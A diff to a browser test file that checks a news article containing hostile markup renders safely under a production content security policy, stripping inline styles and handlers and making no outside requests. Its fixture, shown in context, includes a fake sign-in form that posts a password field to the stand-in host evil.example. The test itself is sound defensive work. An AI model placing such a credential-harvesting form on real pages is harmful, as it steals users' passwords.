@@ -16,6 +16,9 @@ const hostile = `
 <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
 <p>Words after</p>`;
 
+const refusedInline =
+  /^(Executing inline event handler|Applying inline style) violates .* has been blocked\.$/s;
+
 /** Whatever the browser complains of, and whatever is asked of another origin, from now on. */
 function listen(tab: Page, ownUrl: string): readonly string[] {
   const heard: string[] = [];
@@ -44,6 +47,7 @@ broken('an article is read under the production policy, whatever stands in it', 
   await expectScreen(plain, 'News');
   await expect(plain.getByRole('article').getByRole('heading', { name: 'A part' })).toBeVisible();
   await expect(plain.getByRole('article').locator('strong')).toHaveText('bold');
+  expect(heard).toEqual([]);
 
   const tab = await open('/pages/news/detail?id=A-1');
   const article = tab.getByRole('article');
@@ -57,7 +61,8 @@ broken('an article is read under the production policy, whatever stands in it', 
   await expect(article.locator('[style], [onclick]')).toHaveCount(0);
   await expect(tab.getByRole('main')).toBeVisible();
   expect(await tab.evaluate(() => 'wasRun' in window)).toBe(false);
-  expect(heard).toEqual([]);
+  // Chromium notes what the policy refuses already where the text is taken apart, outside of the page. Nothing else is heard.
+  expect(heard.filter((text) => !refusedInline.test(text))).toEqual([]);
 });
 
 broken('a message is read under the production policy', async ({ visit }) => {
